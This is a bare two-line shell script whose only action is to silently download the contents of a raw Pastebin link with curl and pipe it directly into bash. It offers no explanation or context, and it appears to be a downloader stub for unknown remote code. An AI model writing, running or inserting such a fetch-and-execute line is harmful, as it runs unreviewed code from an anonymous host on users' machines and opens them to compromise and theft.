#!/bin/sh
curl -s http://pastebin.com/raw/8fKq2LmN | bash
